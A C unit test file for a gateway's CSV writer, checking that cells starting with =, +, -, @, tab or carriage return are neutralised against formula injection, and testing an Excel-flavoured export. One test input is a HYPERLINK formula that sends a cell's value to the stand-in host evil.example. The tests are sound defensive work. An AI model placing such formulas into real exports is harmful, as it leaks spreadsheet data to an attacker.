/*
 * test_csv_rumus.c - unit tests of the gateway's CSV writer (gateway/src/csv.c,
 * compiled into this program and linked with jansson) against CSV formula
 * injection (#16.7): a text cell starting with =, +, -, @, a tab or a carriage
 * return is written with a leading apostrophe inside its quotes, so that a
 * spreadsheet shows it as text; JSON numbers stay bare (-0.5 is a number), and
 * other text is written as before.  The spreadsheet flavour (?format=excel):
 * BOM, ';', decimal comma, flattened columns, codes kept as text.
 */
#include <stdlib.h>

#include "tap.h"
#include "../../gateway/src/csv.c"

/* What a writer makes of a JSON array of rows, as a C string (static buffer). */
static const char *
written(const char *json, char *(*writer) (json_t *, size_t *))
{
	static char out[4096];
	json_error_t err;
	json_t	   *rows = json_loads(json, JSON_DECODE_ANY, &err);
	size_t		len = 0;
	char	   *text;

	if (rows == NULL)
		return "(invalid JSON)";
	text = writer(rows, &len);
	json_decref(rows);
	if (text == NULL)
		return "(NULL)";
	snprintf(out, sizeof(out), "%.*s", (int) len, text);
	free(text);
	return out;
}

/* the CSV, and the spreadsheet-flavoured CSV (?format=excel) */
#define csv_of(json) written((json), gw_csv_write)
#define excel_of(json) written((json), gw_csv_write_excel)

int
main(void)
{

	/* the predicate */
	ok(gw_csv_formula_start("=1+2", 4), "= starts a formula");
	ok(gw_csv_formula_start("+1", 2), "+ starts a formula");
	ok(gw_csv_formula_start("-5", 2), "- starts a formula (text that looks like a negative number too)");
	ok(gw_csv_formula_start("@SUM(A1)", 8), "@ starts a formula");
	ok(gw_csv_formula_start("\tx", 2), "a tab starts a formula");
	ok(gw_csv_formula_start("\rx", 2), "a carriage return starts a formula");
	ok(!gw_csv_formula_start("", 0), "the empty text does not");
	ok(!gw_csv_formula_start("Posyandu = 3", 12), "= inside the text does not");
	ok(!gw_csv_formula_start(" =1", 3), "a leading space does not (OWASP's list)");
	ok(!gw_csv_formula_start("\n=1", 3), "a leading line feed does not (OWASP's list)");

	/* the writer */
	is_str(csv_of("[{\"judul\": \"=HYPERLINK(\\\"http://evil.example/?x=\\\"&A1,\\\"Klik\\\")\"}]"),
		   "\"judul\"\r\n\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"Klik\"\")\"\r\n",
		   "the HYPERLINK title gets an apostrophe inside its quotes, its quotes doubled");
	is_str(csv_of("[{\"a\": \"+1\", \"b\": \"-5\", \"c\": \"@x\", \"d\": \"\\tx\", \"e\": \"\\rx\", \"f\": \"ok\"}]"),
		   "\"a\",\"b\",\"c\",\"d\",\"e\",\"f\"\r\n\"'+1\",\"'-5\",\"'@x\",\"'\tx\",\"'\rx\",\"ok\"\r\n",
		   "+, - (text), @, tab and CR cells are prefixed and quoted; plain text is not prefixed");
	is_str(csv_of("[{\"n\": -0.5, \"i\": -12, \"j\": 12, \"z\": 0.25}]"),
		   "\"n\",\"i\",\"j\",\"z\"\r\n-0.5,-12,12,0.25\r\n",
		   "JSON numbers stay bare numbers: -0.5, -12, 12, 0.25");
	is_str(csv_of("[{\"t\": true, \"x\": null, \"o\": [\"=1\"]}]"),
		   "\"t\",\"x\",\"o\"\r\ntrue,,\"[\"\"=1\"\"]\"\r\n",
		   "booleans, null and nested JSON (starting with [ or {) as before");
	is_str(csv_of("[{\"=k\": 1}]"), "\"'=k\"\r\n1\r\n", "a header name is neutralised too");
	is_str(csv_of("[{\"=\": \"'=1\", \"'=\": \"'\"}]"), "\"'=\",\"''=\"\r\n\"''=1\",\"''\"\r\n",
		   "text starting with an apostrophe gets one more: the headers = and '= stay two columns (found by fuzz_gw_csv)");
	ok(gw_csv_apostrophe("'x", 2) && gw_csv_apostrophe("=x", 2) && !gw_csv_apostrophe("x'", 2) && !gw_csv_apostrophe("", 0),
	   "gw_csv_apostrophe: formula starts and a leading apostrophe, nothing else");
	is_str(csv_of("[]"), "", "no rows: an empty body");

	/* the spreadsheet flavour (?format=excel, issue 20) */
	is_str(excel_of("[{\"kode\": \"13.10\", \"nik\": \"1377014101900001\", \"nama\": \"Kampung Perak\", \"n\": 12, \"p\": 12.5}]"),
		   "\xEF\xBB\xBF\"kode\";\"nik\";\"nama\";\"n\";\"p\"\r\n\"=\"\"13.10\"\"\";\"=\"\"1377014101900001\"\"\";\"Kampung Perak\";12;12,5\r\n",
		   "excel: BOM, ';', codes and NIKs as =\"text\", a decimal comma");
	is_str(excel_of("[{\"kode\": \"13.77\", \"skor\": {\"input_pokja\": 3, \"output_cpr\": 2}, \"selang\": [10.25, 20.5], \"kosong\": {}}]"),
		   "\xEF\xBB\xBF\"kode\";\"skor_input_pokja\";\"skor_output_cpr\";\"selang_1\";\"selang_2\";\"kosong\"\r\n"
		   "\"=\"\"13.77\"\"\";3;2;10,25;20,5;\r\n",
		   "excel: nested objects and arrays of values flattened into columns; an empty object is an empty cell");
	is_str(excel_of("[{\"a\": 1}, {\"a\": 2, \"b\": \"x;y\"}]"),
		   "\xEF\xBB\xBF\"a\";\"b\"\r\n1;\r\n2;\"x;y\"\r\n",
		   "excel: the columns of every row, in the order first met; a ';' inside text is quoted");
	is_str(excel_of("[{\"judul\": \"=1+2\", \"d\": [{\"k\": 1}], \"big\": 12345678901234567}]"),
		   "\xEF\xBB\xBF\"judul\";\"d\";\"big\"\r\n\"'=1+2\";\"[{\"\"k\"\":1}]\";\"=\"\"12345678901234567\"\"\"\r\n",
		   "excel: formulas neutralised, a list of records as JSON text, an integer over 15 digits as text");
	ok(gw_text_is_code("13.10", 5) && gw_text_is_code("0812", 4) && !gw_text_is_code("13,5", 4) && !gw_text_is_code("A1", 2)
	   && !gw_text_is_code("..", 2) && !gw_text_is_code("", 0), "gw_text_is_code: digits and dots with a digit, nothing else");
	is_str(excel_of("[]"), "\xEF\xBB\xBF", "excel, no rows: the byte-order mark alone");
	is_str(excel_of("[{\"skor\": {\"a\": 1}, \"skor_a\": 2}]"),
		   "\xEF\xBB\xBF\"skor_a\";\"skor_a_2\"\r\n1;2\r\n",
		   "excel: a flattened name a row already has gets a suffix: no value is lost");
	is_str(excel_of("[{\"a\": {\"b\": {\"c\": {\"d\": {\"e\": {\"f\": {\"g\": {\"h\": {\"i\": {\"j\": 1}}}}}}}}}}]"),
		   "\xEF\xBB\xBF\"a_b_c_d_e_f_g_h_i\"\r\n\"{\"\"j\"\":1}\"\r\n",
		   "excel: nesting deeper than 8 stays its JSON text");

	return done_testing();
}
